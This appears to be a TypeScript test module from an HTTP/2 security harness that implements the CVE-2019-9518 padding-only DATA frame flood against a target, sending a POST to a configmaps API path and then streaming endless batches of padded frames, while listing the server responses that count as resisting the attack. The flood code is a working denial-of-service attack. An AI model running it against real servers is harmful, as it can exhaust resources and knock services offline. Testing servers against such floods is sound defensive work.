// DATA frames of padding: 256 bytes for one of content, and none.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2019-9518',
  does: 'sends DATA frames of nothing but padding',
  who: ['known', 'unknown'],
  answers: [
    '200',
    '401',
    '403',
    '413',
    'RST_STREAM NO_ERROR',
    'RST_STREAM CANCEL',
    'RST_STREAM STREAM_CLOSED',
    'RST_STREAM FLOW_CONTROL_ERROR',
    'GOAWAY FLOW_CONTROL_ERROR',
    'GOAWAY STREAM_CLOSED',
  ],
  must: ['GOAWAY ENHANCE_YOUR_CALM', 'closed', 'RST_STREAM FLOW_CONTROL_ERROR', 'GOAWAY FLOW_CONTROL_ERROR'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const stream = connection.stream()
      const post = request(head(target, 'POST', '/api/v1/namespaces/default/configmaps'), 0)
      const padded = h2.frame(h2.DATA, h2.PADDED, stream, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)]))
      const piece = Buffer.concat(new Array<Buffer>(64).fill(padded))
      const pieces = [post(stream)]
      return { next: () => pieces.shift() ?? piece }
    }),
}
